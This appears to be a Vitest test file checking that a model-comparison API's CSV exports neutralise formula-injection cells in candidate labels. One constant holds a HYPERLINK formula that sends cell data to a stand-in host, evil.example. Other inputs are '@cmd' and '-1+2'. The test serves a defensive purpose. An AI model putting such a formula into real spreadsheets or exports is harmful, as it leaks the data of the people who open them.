import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestService, type TestService } from './helpers/app.js';
import { asText, baseWorkload, batchCsvBody, csvRecords } from './helpers/comparison.js';

const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';

describe('CSV outputs neutralise formula cells', () => {
  let svc: TestService;
  beforeAll(async () => {
    svc = await startTestService({ LOAD_REFERENCE_DATA: true });
  });
  afterAll(async () => svc.close());

  const body = {
    workload: baseWorkload(),
    candidates: [
      { type: 'api', label: EVIL, offering: 'openai-gpt-5-mini' },
      { type: 'api', label: '@cmd', offering: 'openai-gpt-5-nano' },
      { type: 'api', label: '-1+2', offering: 'openai-gpt-5' },
    ],
  };

  it('POST /compare as CSV', async () => {
    const res = await svc.http.post('/compare').set('accept', 'text/csv').send(body).buffer(true).parse(asText).expect(200);
    const labels = csvRecords(res.body as string).records.map((r) => r.label);
    expect(labels.sort()).toEqual([`'${EVIL}`, "'-1+2", "'@cmd"].sort());
  });

  it('POST /compare/batch as CSV', async () => {
    const res = await svc.http
      .post('/compare/batch')
      .set('accept', 'text/csv')
      .send({ items: [body] })
      .buffer(true)
      .parse(asText)
      .expect(200);
    const labels = csvRecords(batchCsvBody(res.body as string)).records.map((r) => r.label);
    expect(labels.sort()).toEqual([`'${EVIL}`, "'-1+2", "'@cmd"].sort());
  });

  it('the JSON representation keeps the label as given', async () => {
    const res = await svc.http.post('/compare').send(body).expect(200);
    expect(res.body.results.map((r: { label: string }) => r.label)).toContain(EVIL);
  });
});
